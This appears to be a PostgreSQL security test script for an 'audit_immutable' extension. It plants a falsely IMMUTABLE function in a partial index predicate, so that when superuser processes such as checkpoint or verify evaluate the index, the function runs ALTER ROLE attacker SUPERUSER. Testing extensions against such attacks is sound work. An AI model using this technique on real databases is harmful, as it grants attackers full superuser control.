-- The predicate of a partial unique index on the stamps is folded when a plan is made: by the checkpoint worker, by
-- verify, by anyone who asks for the heads. Its function then runs as the superuser, and makes its owner one.
-- role: attacker
-- says: done
-- verify: intact
CREATE FUNCTION m.work() RETURNS int LANGUAGE plpgsql AS $$
BEGIN
    PERFORM m.note('index predicate');
    IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
        ALTER ROLE attacker SUPERUSER;
    END IF;
    RETURN 1;
END $$;
CREATE FUNCTION m.quiet(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM m.work(); RETURN $1; END $$;
CREATE UNIQUE INDEX evil ON m.mine (audit_chain, audit_seq) WHERE m.quiet(1) > 0;
INSERT INTO m.mine VALUES (2, 'bait');
SELECT pg_sleep(2);
\connect - postgres
SELECT count(*) FROM audit_immutable.verify();
SELECT audit_immutable.verify('m.mine'), audit_immutable.heads('m.mine');
SELECT audit_immutable.export('m.mine');
SELECT count(*) FROM audit_immutable.status;
SELECT audit_immutable.checkpoint() <> '';
